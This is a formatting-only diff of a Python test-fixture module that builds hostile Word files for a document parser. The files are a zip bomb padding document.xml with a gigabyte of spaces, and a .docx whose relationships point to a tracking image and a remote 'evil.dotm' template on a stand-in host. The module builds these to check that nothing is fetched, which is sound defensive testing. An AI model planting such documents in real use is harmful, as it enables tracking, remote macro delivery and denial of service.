@@ -3,6 +3,7 @@
 Each builder writes one file into a folder and returns its path; nothing is shipped in the
 repository, so the corpus is always exactly what this module says.
 """
+
 from __future__ import annotations
 
 import io
@@ -50,7 +51,7 @@ def docx_zip_bomb(folder: Path) -> Path:
         for info in source.infolist():
             if info.filename == "word/document.xml":
                 with target.open("word/document.xml", "w", force_zip64=True) as handle:
-                    handle.write(source.read(info.filename)[:-len(b"</w:document>")])
+                    handle.write(source.read(info.filename)[: -len(b"</w:document>")])
                     chunk = b" " * (1024 * 1024)
                     for _ in range(1024):
                         handle.write(chunk)
@@ -64,10 +65,12 @@ def docx_external_relationship(folder: Path) -> Path:
     """A .docx pointing at a remote image and a remote template: nothing may be fetched."""
     base = _docx_bytes([SENTENCE * 3])
     rels = zipfile.ZipFile(io.BytesIO(base)).read("word/_rels/document.xml.rels")
-    extra = (b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-             b'relationships/image" Target="http://198.51.100.7/track.png" TargetMode="External"/>'
-             b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-             b'relationships/attachedTemplate" Target="http://198.51.100.7/evil.dotm" TargetMode="External"/>')
+    extra = (
+        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/image" Target="http://198.51.100.7/track.png" TargetMode="External"/>'
+        b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://198.51.100.7/evil.dotm" TargetMode="External"/>'
+    )
     rels = rels.replace(b"</Relationships>", extra + b"</Relationships>")
     return _write(folder, "external.docx", _rewrite_docx(base, {"word/_rels/document.xml.rels": rels}))
 
